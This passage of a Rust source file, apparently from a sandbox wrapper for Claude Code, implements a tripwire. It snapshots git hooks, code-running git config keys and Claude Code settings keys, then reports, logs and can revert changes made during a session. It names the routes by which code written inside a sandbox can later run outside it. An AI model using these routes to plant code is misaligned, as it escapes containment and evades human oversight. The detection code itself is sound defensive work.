//! The tripwire at exit (SPEC §4.8, issue #12 item 3).
//!
//! Inside the sandbox the protected workspace paths that exist are
//! read-only ([`crate::plan::protect`]); those that do not exist can still be
//! created, and Claude Code's settings files stay writable. So the shadow
//! snapshots, before the first attempt, everything through which something
//! written inside could run outside ([`Watch::start`]), and compares when the
//! session ends ([`Watch::finish`]). Each change that adds, alters or removes
//! something executable is printed in one block on stderr and recorded, with
//! the old content, in a per-user log under
//! `$HOME/.local/state/claude-sandbox/tripwire/` that the sandbox never sees.
//! `claude-sandbox review` lists what is recorded and not reverted;
//! `review --revert` undoes it where the path still holds exactly what the
//! session left.
//!
//! The comparison is pure ([`compare`] over two [`Tree`]s); the file system
//! is read by [`scan`], and written only by the log and the revert.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::io::{Read, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{DirBuilderExt, MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::{plan, plan::gitconfig, plan::protect, sys::paths};

/// At most this many files (and directories) are looked at under one
/// watched path, and at most [`MAX_READ`] bytes read from them: the
/// snapshot runs on every launch.
pub(crate) const MAX_FILES: usize = 64;
pub(crate) const MAX_READ: u64 = 256 * 1024;
/// Claude Code's `~/.claude.json` grows with its history: read up to this.
const SETTINGS_MAX: u64 = 16 << 20;
/// The keys of Claude Code's settings through which they run code.
pub(crate) const SETTINGS_KEYS: &[&str] =
    &["hooks", "apiKeyHelper", "mcpServers", "env", "statusLine"];
/// Settings files under `$HOME` (`~/.claude.json` also has per-project MCP servers).
const HOME_SETTINGS: &[&str] = &[
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude.json",
];
const WORKSPACE_SETTINGS: &[&str] = &[".claude/settings.json", ".claude/settings.local.json"];
/// The log's directory under [`plan::PRIVATE_STATE`].
const LOG_DIR: &str = "tripwire";
/// A path first found at exit (in a repository created during the session)
/// is taken as there before when its inode last changed this long before
/// the launch (ctime cannot be set back from inside; the kernel's clock
/// for it is coarse).
const SLACK: Duration = Duration::from_secs(1);

/// How a watched path is compared.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A git directory's `config`: the keys that run code.
    GitConfig,
    /// A git directory's `hooks`: its files, git's inert `*.sample` left out.
    Hooks,
    /// Claude Code settings: [`SETTINGS_KEYS`]; with `projects`
    /// (`~/.claude.json`) also `projects.*.mcpServers`.
    Settings { projects: bool },
    /// Any other protected path, file or directory: all of it.
    Other,
}

/// A file's identity and times: equal metadata means unchanged content.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Meta {
    dev: u64,
    ino: u64,
    size: u64,
    mode: u32,
    mtime: (i64, i64),
    ctime: (i64, i64),
    /// Birth time, where the file system records it.
    btime: Option<(i64, i64)>,
}

impl Meta {
    fn of(m: &std::fs::Metadata) -> Meta {
        Meta {
            dev: m.dev(),
            ino: m.ino(),
            size: m.size(),
            mode: m.mode(),
            mtime: (m.mtime(), m.mtime_nsec()),
            ctime: (m.ctime(), m.ctime_nsec()),
            btime: m.created().ok().map(stamp),
        }
    }
}

/// (seconds, nanoseconds) since the epoch.
fn stamp(t: SystemTime) -> (i64, i64) {
    let d = t.duration_since(UNIX_EPOCH).unwrap_or_default();
    (d.as_secs() as i64, i64::from(d.subsec_nanos()))
}

/// One file system object under a watched path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Entry {
    /// `content` is `None` when over the read budget.
    File {
        meta: Meta,
        content: Option<Vec<u8>>,
    },
    Link {
        meta: Meta,
        target: PathBuf,
    },
    Dir {
        meta: Meta,
    },
    /// A FIFO, socket or device: never read.
    Special {
        meta: Meta,
    },
    /// There before the session, changed in it, never snapshotted.
    Unknown,
}

impl Entry {
    fn meta(&self) -> Option<&Meta> {
        match self {
            Entry::File { meta, .. }
            | Entry::Link { meta, .. }
            | Entry::Dir { meta }
            | Entry::Special { meta } => Some(meta),
            Entry::Unknown => None,
        }
    }
}

/// What is under one watched path: relative path → entry, `""` being the
/// path itself (absent: an empty tree).
pub(crate) type Tree = BTreeMap<PathBuf, Entry>;

/// Whether two states of one entry are the same for what runs: content
/// and the executable bits (a `chmod +x` arms a hook).
fn same(a: Option<&Entry>, b: Option<&Entry>) -> bool {
    use Entry::*;
    match (a, b) {
        (None, None) => true,
        (
            Some(File {
                meta: m,
                content: Some(x),
            }),
            Some(File {
                meta: n,
                content: Some(y),
            }),
        ) => x == y && m.mode & 0o111 == n.mode & 0o111,
        (Some(File { meta: m, .. }), Some(File { meta: n, .. })) => m == n,
        (Some(Link { target: x, .. }), Some(Link { target: y, .. })) => x == y,
        (Some(Dir { .. }), Some(Dir { .. })) => true,
        (Some(Special { meta: m }), Some(Special { meta: n })) => m == n,
        _ => false,
    }
}

/// What a revert compares a path against: the state the session left.
fn fingerprint(e: &Entry) -> String {
    match e {
        Entry::File {
            meta,
            content: Some(c),
        } => format!("file {:o} {}", meta.mode & 0o7777, sha256(c)),
        Entry::Link { target, .. } => format!("link {}", sha256(target.as_os_str().as_bytes())),
        Entry::Dir { .. } => "dir".into(),
        _ => UNREAD.into(),
    }
}

/// The fingerprint of content that was not read (over the budget, special).
const UNREAD: &str = "unread";

fn sha256(b: &[u8]) -> String {
    hex(&Sha256::digest(b))
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

// ---------------------------------------------------------------- scanning

/// Read what is under `path` (bounded: [`MAX_FILES`] entries, [`MAX_READ`]
/// bytes, or [`SETTINGS_MAX`] for a settings file). Symlinks are recorded,
/// never followed. A file whose metadata equals its entry in `prev` is not
/// read again: its content is `prev`'s.
pub(crate) fn scan(path: &Path, kind: Kind, prev: Option<&Tree>) -> Tree {
    let mut bytes = match kind {
        Kind::Settings { .. } => SETTINGS_MAX,
        _ => MAX_READ,
    };
    let depth_limit = match kind {
        Kind::Settings { .. } | Kind::GitConfig => 0,
        Kind::Hooks => 1,
        Kind::Other => usize::MAX,
    };
    let mut tree = Tree::new();
    let mut todo = vec![(PathBuf::new(), 0usize)];
    while let Some((rel, depth)) = todo.pop() {
        if tree.len() >= MAX_FILES {
            break;
        }
        let full = if rel.as_os_str().is_empty() {
            path.to_path_buf()
        } else {
            path.join(&rel)
        };
        let Ok(m) = std::fs::symlink_metadata(&full) else {
            continue;
        };
        let entry = read_entry(&full, &m, prev.and_then(|p| p.get(&rel)), &mut bytes);
        if matches!(entry, Entry::Dir { .. }) && depth < depth_limit {
            // Names are sorted so both scans pick the same MAX_FILES; a
            // directory of thousands is not listed to the end.
            let mut names: Vec<OsString> = std::fs::read_dir(&full)
                .map(|rd| {
                    rd.flatten()
                        .take(64 * MAX_FILES)
                        .map(|e| e.file_name())
                        .collect()
                })
                .unwrap_or_default();
            names.retain(|n| kind != Kind::Hooks || !n.as_bytes().ends_with(b".sample"));
            names.sort();
            todo.extend(names.into_iter().rev().map(|n| (rel.join(n), depth + 1)));
        }
        tree.insert(rel, entry);
    }
    tree
}

fn read_entry(full: &Path, m: &std::fs::Metadata, prev: Option<&Entry>, bytes: &mut u64) -> Entry {
    let meta = Meta::of(m);
    let ft = m.file_type();
    if ft.is_symlink() {
        let target = std::fs::read_link(full).unwrap_or_default();
        return Entry::Link { meta, target };
    }
    if ft.is_dir() {
        return Entry::Dir { meta };
    }
    if !ft.is_file() {
        return Entry::Special { meta };
    }
    let content = match prev {
        Some(Entry::File { meta: pm, content }) if *pm == meta => content.clone(),
        _ => read_bounded(full, meta.size, *bytes),
    };
    if let Some(c) = &content {
        *bytes -= c.len() as u64;
    }
    Entry::File { meta, content }
}

/// The whole file when it fits `budget` (opened without following a
/// symlink or blocking on a FIFO swapped in since the `lstat`).
fn read_bounded(p: &Path, size: u64, budget: u64) -> Option<Vec<u8>> {
    if size > budget {
        return None;
    }
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::libc::O_NOFOLLOW | nix::libc::O_NONBLOCK | nix::libc::O_NOCTTY)
        .open(p)
        .ok()?;
    let mut out = Vec::with_capacity(size as usize);
    f.take(budget + 1).read_to_end(&mut out).ok()?;
    (out.len() as u64 <= budget).then_some(out)
}

/// For a path first found at exit: what of `now` was there before `since`
/// (its inode unchanged since), and what was there but changed (its birth
/// time before `since`), its content before unknown.
fn untouched_before(now: &Tree, since: SystemTime) -> Tree {
    let since = stamp(since);
    now.iter()
        .filter_map(|(rel, e)| {
            let m = e.meta()?;
            if m.ctime < since {
                Some((rel.clone(), e.clone()))
            } else if m.btime.is_some_and(|b| b < since) {
                Some((rel.clone(), Entry::Unknown))
            } else {
                None
            }
        })
        .collect()
}

/// Every watched path of a session: the protected paths the walk of
/// `workspace` found (existing or not) and Claude Code's settings files.
fn targets(home: &Path, workspace: &Path, found: protect::Protected) -> BTreeMap<PathBuf, Kind> {
    let protect::Protected { paths, gitdirs, .. } = found;
    let mut out = BTreeMap::new();
    for p in paths {
        let in_gitdir = p.parent().is_some_and(|d| gitdirs.iter().any(|g| g == d));
        let kind = match p.file_name().and_then(|n| n.to_str()) {
            Some("config") if in_gitdir => Kind::GitConfig,
            Some("hooks") if in_gitdir => Kind::Hooks,
            // `info` is protected whole; of what git keeps there (`exclude`,
            // `sparse-checkout`) only `attributes` makes anything run.
            Some("info") if in_gitdir => {
                out.insert(p.join("attributes"), Kind::Other);
                continue;
            }
            _ => Kind::Other,
        };
        out.insert(p, kind);
    }
    for rel in HOME_SETTINGS {
        let projects = *rel == ".claude.json";
        out.insert(home.join(rel), Kind::Settings { projects });
    }
    for rel in WORKSPACE_SETTINGS {
        out.insert(workspace.join(rel), Kind::Settings { projects: false });
    }
    out
}

// -------------------------------------------------------------- comparing

/// How a watched path changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) enum Mark {
    #[serde(rename = "+")]
    Added,
    #[serde(rename = "~")]
    Changed,
    #[serde(rename = "-")]
    Removed,
}

impl Mark {
    fn of(old: Option<&Entry>, new: Option<&Entry>) -> Mark {
        match (old, new) {
            (None, Some(_)) => Mark::Added,
            (Some(_), None) => Mark::Removed,
            _ => Mark::Changed,
        }
    }

    fn sign(self) -> char {
        match self {
            Mark::Added => '+',
            Mark::Changed => '~',
            Mark::Removed => '-',
        }
    }
}

/// One change of a watched path, as printed and recorded.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub(crate) struct Change {
    #[serde(with = "path_text")]
    pub(crate) path: PathBuf,
    pub(crate) mark: Mark,
    /// What changed, for people (already made safe to print).
    pub(crate) what: String,
    /// What `review --revert` does.
    pub(crate) items: Vec<Item>,
}

/// One path `review --revert` can put back.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub(crate) struct Item {
    #[serde(with = "path_text")]
    pub(crate) path: PathBuf,
    /// What was there before the session.
    pub(crate) old: Old,
    /// The fingerprint of what the session left (`None`: nothing).
    pub(crate) new: Option<String>,
    #[serde(default)]
    pub(crate) reverted: bool,
}

/// What a path held before the session.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Old {
    Absent,
    File {
        mode: u32,
        #[serde(with = "bytes_text")]
        content: Vec<u8>,
    },
    Link {
        #[serde(with = "path_text")]
        target: PathBuf,
    },
    Dir {
        mode: u32,
    },
    /// Settings keys (`key`: the path of object keys), `None`: not set.
    Keys {
        existed: bool,
        values: Vec<(Vec<String>, Option<Value>)>,
    },
    /// Not kept (over the read budget, a special file): cannot be put back.
    Unknown,
}

impl Old {
    fn of(e: Option<&Entry>) -> Old {
        match e {
            None => Old::Absent,
            Some(Entry::File {
                meta,
                content: Some(c),
            }) => Old::File {
                mode: meta.mode & 0o7777,
                content: c.clone(),
            },
            Some(Entry::Link { target, .. }) => Old::Link {
                target: target.clone(),
            },
            Some(Entry::Dir { meta }) => Old::Dir {
                mode: meta.mode & 0o7777,
            },
            Some(_) => Old::Unknown,
        }
    }
}

/// The change of one watched path between `old` and `new`, if any changes
/// what runs: for git config the keys that run code, for settings their
/// keys, otherwise any file added, changed or removed (a directory alone
/// is not a change).
pub(crate) fn compare(path: &Path, kind: Kind, old: &Tree, new: &Tree) -> Option<Change> {
    let differs: Vec<&PathBuf> = old
        .keys()
        .chain(new.keys())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .filter(|rel| !same(old.get(*rel), new.get(*rel)))
        .collect();
    if !differs.iter().any(|rel| file_level(old, new, rel)) {
        return None;
    }
    let root = PathBuf::new();
    let mark = Mark::of(old.get(&root), new.get(&root));
    let (details, items) = match kind {
        Kind::GitConfig => (
            git_config_details(old.get(&root), new.get(&root))?,
            file_items(path, kind, old, new, &differs),
        ),
        Kind::Settings { projects } => settings_change(path, projects, old, new, &differs)?,
        Kind::Hooks | Kind::Other => (
            files_details(old, new, &differs),
            file_items(path, kind, old, new, &differs),
        ),
    };
    let what = match (mark, details.is_empty()) {
        (Mark::Added, true) => "(new)".to_string(),
        (Mark::Added, false) => format!("(new)  {details}"),
        (Mark::Removed, _) => "(removed)".to_string(),
        (Mark::Changed, true) => "changed".to_string(),
        (Mark::Changed, false) => details,
    };
    Some(Change {
        path: path.to_path_buf(),
        mark,
        what,
        items,
    })
}

/// Whether a difference at `rel` involves more than directories.
fn file_level(old: &Tree, new: &Tree, rel: &Path) -> bool {
    [old.get(rel), new.get(rel)]
        .iter()
        .any(|e| e.is_some_and(|e| !matches!(e, Entry::Dir { .. })))
}

/// What `review --revert` puts back for the entries in `differs` (git's
/// own `hooks` directory of a new repository stays).
fn file_items(path: &Path, kind: Kind, old: &Tree, new: &Tree, differs: &[&PathBuf]) -> Vec<Item> {
    differs
        .iter()
        .filter(|rel| {
            !(kind == Kind::Hooks && rel.as_os_str().is_empty() && !file_level(old, new, rel))
        })
        .map(|rel| Item {
            path: if rel.as_os_str().is_empty() {
                path.to_path_buf()
            } else {
                path.join(rel)
            },
            old: Old::of(old.get(*rel)),
            new: new.get(*rel).map(fingerprint),
            reverted: false,
        })
        .collect()
}

/// `a added, b changed, c removed` for the files of a directory.
fn files_details(old: &Tree, new: &Tree, differs: &[&PathBuf]) -> String {
    const SHOWN: usize = 8;
    let files: Vec<String> = differs
        .iter()
        .filter(|rel| !rel.as_os_str().is_empty() && file_level(old, new, rel))
        .map(|rel| {
            let how = match Mark::of(old.get(*rel), new.get(*rel)) {
                Mark::Added => "added",
                Mark::Changed => "changed",
                Mark::Removed => "removed",
            };
            format!("{} {how}", shown(&rel.to_string_lossy()))
        })
        .collect();
    let mut out = files
        .iter()
        .take(SHOWN)
        .cloned()
        .collect::<Vec<_>>()
        .join(", ");
    if files.len() > SHOWN {
        out.push_str(&format!(" and {} more", files.len() - SHOWN));
    }
    out
}

/// The entries of a git config that run code, or why it cannot be read.
fn git_config_runs(e: Option<&Entry>) -> Result<Vec<(String, String)>, String> {
    let text = match e {
        None => return Ok(Vec::new()),
        Some(Entry::File {
            content: Some(c), ..
        }) => String::from_utf8_lossy(c).into_owned(),
        Some(Entry::File { .. }) => return Err(format!("over {} KiB, not read", MAX_READ / 1024)),
        Some(_) => return Err("not a regular file".into()),
    };
    Ok(gitconfig::parse(&text)?
        .into_iter()
        .filter(gitconfig::Entry::runs_code)
        .map(|e| (e.name(), e.value.unwrap_or_else(|| "true".into())))
        .collect())
}

/// `core.fsmonitor = touch MARK; alias.x removed`, or `None` when no key
/// that runs code changed.
fn git_config_details(old: Option<&Entry>, new: Option<&Entry>) -> Option<String> {
    let (a, b) = match (git_config_runs(old), git_config_runs(new)) {
        (Ok(a), Ok(b)) => (a, b),
        (_, Err(e)) | (Err(e), _) => return Some(format!("not read as git config ({e})")),
    };
    let mut out: Vec<String> = b
        .iter()
        .filter(|kv| !a.contains(kv))
        .map(|(k, v)| format!("{} = {}", shown(k), shown(v)))
        .collect();
    let mut gone: Vec<&String> = a
        .iter()
        .filter(|kv| !b.contains(kv) && !b.iter().any(|(k, _)| *k == kv.0))
        .map(|(k, _)| k)
        .collect();
    gone.dedup();
    out.extend(gone.into_iter().map(|k| format!("{} removed", shown(k))));
    (!out.is_empty()).then(|| out.join("; "))
}

/// Settings keys → their values ([`SETTINGS_KEYS`], and with `projects`
/// `projects.P.mcpServers`); an empty value (`{}`, `[]`, `""`, `null`)
/// counts as not set.
pub(crate) type Projection = BTreeMap<Vec<String>, Value>;

/// The keys of a settings file that run code; everything else is skipped
/// unparsed (a long-used `~/.claude.json` holds megabytes of history).
#[derive(Deserialize)]
struct SettingsKeys {
    hooks: Option<Value>,
    #[serde(rename = "apiKeyHelper")]
    api_key_helper: Option<Value>,
    #[serde(rename = "mcpServers")]
    mcp_servers: Option<Value>,
    env: Option<Value>,
    #[serde(rename = "statusLine")]
    status_line: Option<Value>,
    projects: Option<BTreeMap<String, ProjectKeys>>,
}

#[derive(Deserialize)]
struct ProjectKeys {
    #[serde(rename = "mcpServers")]
    mcp_servers: Option<Value>,
}

/// The projection of a settings file's text.
pub(crate) fn project(text: &[u8], projects: bool) -> Result<Projection, String> {
    let empty = |v: &Value| match v {
        Value::Null => true,
        Value::Object(o) => o.is_empty(),
        Value::Array(a) => a.is_empty(),
        Value::String(s) => s.is_empty(),
        _ => false,
    };
    let s: SettingsKeys = serde_json::from_slice(text).map_err(|e| format!("not JSON: {e}"))?;
    let top = [
        s.hooks,
        s.api_key_helper,
        s.mcp_servers,
        s.env,
        s.status_line,
    ];
    let mut out = Projection::new();
    for (k, v) in SETTINGS_KEYS.iter().zip(top) {
        if let Some(v) = v.filter(|v| !empty(v)) {
            out.insert(vec![k.to_string()], v);
        }
    }
    for (p, pv) in s.projects.into_iter().flatten().filter(|_| projects) {
        if let Some(m) = pv.mcp_servers.filter(|v| !empty(v)) {
            out.insert(vec!["projects".into(), p, "mcpServers".into()], m);
        }
    }
    Ok(out)
}

/// The projection of a settings file's entry.
fn projection(e: Option<&Entry>, projects: bool) -> Result<Projection, String> {
    match e {
        None => Ok(Projection::new()),
        Some(Entry::File {
            content: Some(c), ..
        }) => project(c, projects),
        Some(Entry::File { .. }) => Err(format!("over {} MiB, not read", SETTINGS_MAX >> 20)),
        Some(_) => Err("not a regular file".into()),
    }
}

/// A settings file's change: the keys that differ, and one item that puts
/// their old values back (or, if a side is not JSON, the whole file).
fn settings_change(
    path: &Path,
    projects: bool,
    old: &Tree,
    new: &Tree,
    differs: &[&PathBuf],
) -> Option<(String, Vec<Item>)> {
    let root = PathBuf::new();
    let (a, b) = match (
        projection(old.get(&root), projects),
        projection(new.get(&root), projects),
    ) {
        (Ok(a), Ok(b)) => (a, b),
        (_, Err(e)) | (Err(e), _) => {
            let items = file_items(path, Kind::Other, old, new, differs);
            return Some((shown(&e), items));
        }
    };
    let keys: Vec<Vec<String>> = a
        .keys()
        .chain(b.keys())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .filter(|k| a.get(*k) != b.get(*k))
        .cloned()
        .collect();
    if keys.is_empty() {
        return None;
    }
    let details: Vec<String> = keys
        .iter()
        .flat_map(|k| key_details(k, a.get(k), b.get(k)))
        .collect();
    let item = Item {
        path: path.to_path_buf(),
        old: Old::Keys {
            existed: old.contains_key(&root),
            values: keys
                .iter()
                .map(|k| (k.clone(), a.get(k).cloned()))
                .collect(),
        },
        new: Some(keys_fingerprint(&b, &keys)),
        reverted: false,
    };
    Some((details.join("; "), vec![item]))
}

/// `hooks`, `projects["/ws"].mcpServers`.
fn key_name(k: &[String]) -> String {
    match k {
        [p, proj, rest] if p == "projects" => {
            format!("projects[{}].{rest}", shown(&format!("{proj:?}")))
        }
        _ => shown(&k.join(".")),
    }
}

/// For object values, each sub-key that changed (`hooks.SessionStart
/// changed`, never a value: `env` may hold secrets); otherwise the key,
/// with a string's new value (`apiKeyHelper = CMD`).
fn key_details(k: &[String], a: Option<&Value>, b: Option<&Value>) -> Vec<String> {
    let name = key_name(k);
    let object_or_none = |v: Option<&Value>| v.is_none_or(Value::is_object);
    if !(object_or_none(a) && object_or_none(b)) {
        return vec![match (a, b) {
            (_, Some(Value::String(s))) => format!("{name} = {}", shown(s)),
            (None, Some(_)) => format!("{name} added"),
            (Some(_), None) => format!("{name} removed"),
            _ => format!("{name} changed"),
        }];
    }
    let (x, y) = (a.and_then(Value::as_object), b.and_then(Value::as_object));
    let subs: BTreeSet<&String> = x.iter().chain(y.iter()).flat_map(|o| o.keys()).collect();
    subs.into_iter()
        .filter_map(|s| {
            let how = match (x.and_then(|o| o.get(s)), y.and_then(|o| o.get(s))) {
                (None, Some(_)) => "added",
                (Some(_), None) => "removed",
                (Some(p), Some(q)) if p != q => "changed",
                _ => return None,
            };
            Some(format!("{name}.{} {how}", shown(s)))
        })
        .collect()
}

/// `v` with every object's keys sorted, so equal settings hash equally.
fn canonical(v: &Value) -> Value {
    match v {
        Value::Object(m) => {
            let mut keys: Vec<&String> = m.keys().collect();
            keys.sort();
            Value::Object(
                keys.into_iter()
                    .map(|k| (k.clone(), canonical(&m[k])))
                    .collect(),
            )
        }
        Value::Array(a) => Value::Array(a.iter().map(canonical).collect()),
        x => x.clone(),
    }
}

/// The fingerprint of the values of `keys` in `p`.
fn keys_fingerprint(p: &Projection, keys: &[Vec<String>]) -> String {
    let values: Vec<Value> = keys
        .iter()
        .map(|k| serde_json::json!([k, p.get(k).map(canonical)]))
        .collect();
    format!(
        "keys {}",
        sha256(Value::Array(values).to_string().as_bytes())
    )
}

/// Safe to print on a terminal: control and bidirectional-override
/// characters escaped, at most 120 characters.
pub(crate) fn shown(s: &str) -> String {
    const MAX: usize = 120;
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i == MAX {
            out.push('…');
            break;
        }
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
        if c.is_control() || bidi {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

// ---------------------------------------------------------- the session

/// The snapshot of one session, taken before the sandbox starts.
pub(crate) struct Watch {
    started: SystemTime,
    home: PathBuf,
    workspace: PathBuf,
    before: BTreeMap<PathBuf, (Kind, Tree)>,
}

impl Watch {
    /// Snapshot every watched path of `workspace` and `home`; `found` is the
    /// launch's own walk of the workspace (the plan's), not repeated here.
    pub(crate) fn start(home: &Path, workspace: &Path, found: protect::Protected) -> Watch {
        let started = SystemTime::now();
        let before = targets(home, workspace, found)
            .into_iter()
            .map(|(p, k)| {
                let t = scan(&p, k, None);
                (p, (k, t))
            })
            .collect();
        Watch {
            started,
            home: home.to_path_buf(),
            workspace: workspace.to_path_buf(),
            before,
        }
    }

    /// What changed since [`Watch::start`], the workspace discovered again
    /// (repositories created during the session are watched too).
    pub(crate) fn changes(&self) -> Vec<Change> {
        let mut all: BTreeMap<PathBuf, Kind> = self
            .before
            .iter()
            .map(|(p, (k, _))| (p.clone(), *k))
            .collect();
        let found = protect::discover(&self.workspace);
        for (p, k) in targets(&self.home, &self.workspace, found) {
            all.entry(p).or_insert(k);
        }
        let since = self.started.checked_sub(SLACK).unwrap_or(UNIX_EPOCH);
        let mut out = Vec::new();
        for (p, k) in all {
            let prev = self.before.get(&p).map(|(_, t)| t);
            let now = scan(&p, k, prev);
            let found_now;
            let old = match prev {
                Some(t) => t,
                None => {
                    found_now = untouched_before(&now, since);
                    &found_now
                }
            };
            out.extend(compare(&p, k, old, &now));
        }
        out
    }

    /// At the end of a session that ran: record the changes, then print
    /// them in one block on stderr. An unchanged session prints and
    /// writes nothing.
    pub(crate) fn finish(self) {
        let changes = self.changes();
        if changes.is_empty() {
            return;
        }
        let session = Session {
            version: 1,
            started: stamp(self.started).0,
            ended: stamp(SystemTime::now()).0,
            workspace: self.workspace.clone(),
            changes,
        };
        let mut text = block(&session.changes);
        if let Err(e) = record(&self.home, &session) {
            text.push_str(&format!(
                "claude-sandbox: these changes could not be recorded in {} ({e}): `review --revert` cannot undo them\n",
                log_dir(&self.home).display()
            ));
        }
        // A closed terminal must not make this panic: the log is written.
        let _ = std::io::stderr().write_all(text.as_bytes());
    }
}

/// The block printed at the end of a session that changed something.
pub(crate) fn block(changes: &[Change]) -> String {
    let mut out =
        String::from("claude-sandbox: this session changed what runs outside the sandbox:\n");
    for c in changes {
        out.push_str(&change_line(c));
    }
    out.push_str(&format!(
        "Review with: {bin} review\nUndo with:   {bin} review --revert\n",
        bin = paths::SELF_BIN
    ));
    out
}

fn change_line(c: &Change) -> String {
    format!(
        "  {} {}  {}\n",
        c.mark.sign(),
        shown(&c.path.to_string_lossy()),
        c.what
    )
}

// ------------------------------------------------------------------ the log

/// One session's record.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub(crate) struct Session {
    pub(crate) version: u32,
    /// Seconds since the epoch.
    pub(crate) started: i64,
    pub(crate) ended: i64,
    #[serde(with = "path_text")]
    pub(crate) workspace: PathBuf,
    pub(crate) changes: Vec<Change>,
}

/// `$HOME/.local/state/claude-sandbox/tripwire`: never bound into the sandbox.
pub(crate) fn log_dir(home: &Path) -> PathBuf {
    home.join(plan::PRIVATE_STATE).join(LOG_DIR)
}

/// Write `session` as a new file of the log (owner-only).
fn record(home: &Path, session: &Session) -> std::io::Result<PathBuf> {
    let dir = log_dir(home);
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(&dir)?;
    let now = stamp(SystemTime::now());
    let name = format!("{}.{:09}-{}.json", now.0, now.1, std::process::id());
    let path = dir.join(name);
    write_atomic(&path, &session_bytes(session)?, 0o600)?;
    Ok(path)
}

fn session_bytes(s: &Session) -> std::io::Result<Vec<u8>> {
    let mut b = serde_json::to_vec_pretty(s).map_err(std::io::Error::other)?;
    b.push(b'\n');
    Ok(b)
}

/// Replace `path` with `bytes` (mode `mode`) all at once: a temporary file
/// in the same directory, renamed over it.
fn write_atomic(path: &Path, bytes: &[u8], mode: u32) -> std::io::Result<()> {
    let name = path
        .file_name()
        .ok_or_else(|| std::io::Error::other("no file name"))?;
    let mut tmp_name = OsString::from(".");
    tmp_name.push(name);
    tmp_name.push(format!(".csb-{}.tmp", std::process::id()));
    let tmp = path.with_file_name(tmp_name);
    let result = (|| {
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(mode)
            .open(&tmp)?;
        f.set_permissions(std::fs::Permissions::from_mode(mode))?;
        f.write_all(bytes)?;
        f.sync_all()?;
        std::fs::rename(&tmp, path)
    })();
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result
}

/// Serde for paths and bytes: text when UTF-8, hex otherwise.
#[derive(Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Bytes {
    Text(String),
    Hex(String),
}

impl Bytes {
    fn of(b: &[u8]) -> Bytes {
        match std::str::from_utf8(b) {
            Ok(s) => Bytes::Text(s.to_string()),
            Err(_) => Bytes::Hex(hex(b)),
        }
    }

    fn into_bytes(self) -> Result<Vec<u8>, String> {
        match self {
            Bytes::Text(s) => Ok(s.into_bytes()),
            Bytes::Hex(h) if h.len() % 2 == 0 => (0..h.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(h.get(i..i + 2).unwrap_or("x"), 16))
                .collect::<Result<_, _>>()
                .map_err(|e| e.to_string()),
            Bytes::Hex(_) => Err("odd hex length".into()),
        }
    }
}

mod bytes_text {
    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    pub(super) fn serialize<S: Serializer>(b: &[u8], s: S) -> Result<S::Ok, S::Error> {
        super::Bytes::of(b).serialize(s)
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<u8>, D::Error> {
        super::Bytes::deserialize(d)?
            .into_bytes()
            .map_err(serde::de::Error::custom)
    }
}

mod path_text {
    use std::os::unix::ffi::{OsStrExt, OsStringExt};
    use std::path::{Path, PathBuf};

    use serde::{Deserializer, Serializer};

    pub(super) fn serialize<S: Serializer>(p: &Path, s: S) -> Result<S::Ok, S::Error> {
        super::bytes_text::serialize(p.as_os_str().as_bytes(), s)
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<PathBuf, D::Error> {
        let b = super::bytes_text::deserialize(d)?;
        Ok(PathBuf::from(std::ffi::OsString::from_vec(b)))
    }
}

// ------------------------------------------------------------------ review

/// `claude-sandbox review [--revert]` for the calling user.
pub(crate) fn review_main(revert: bool) -> anyhow::Result<i32> {
    let home = crate::sys::user::identity()
        .map_err(crate::error::bad_input)?
        .home;
    Ok(review(
        &home,
        revert,
        &mut std::io::stdout(),
        &mut std::io::stderr(),
    ))
}

/// List (or with `revert`, undo) the changes recorded under `home` and not
/// reverted yet. Returns the exit status: 0 nothing left, 1 something left
/// (changes listed, or paths the revert refused).
pub(crate) fn review(home: &Path, revert: bool, out: &mut dyn Write, err: &mut dyn Write) -> i32 {
    let sessions = sessions(home, err);
    if revert {
        revert_all(sessions, out, err)
    } else {
        list(&sessions, out)
    }
}

/// The recorded sessions, oldest first, each with its file.
fn sessions(home: &Path, err: &mut dyn Write) -> Vec<(PathBuf, Session)> {
    let Ok(rd) = std::fs::read_dir(log_dir(home)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in rd.flatten() {
        let p = e.path();
        let name = e.file_name();
        if name.as_bytes().starts_with(b".") || p.extension().is_none_or(|x| x != "json") {
            continue;
        }
        let read = std::fs::read(&p)
            .map_err(|e| e.to_string())
            .and_then(|b| serde_json::from_slice::<Session>(&b).map_err(|e| e.to_string()));
        match read {
            Ok(s) => out.push((p, s)),
            Err(e) => {
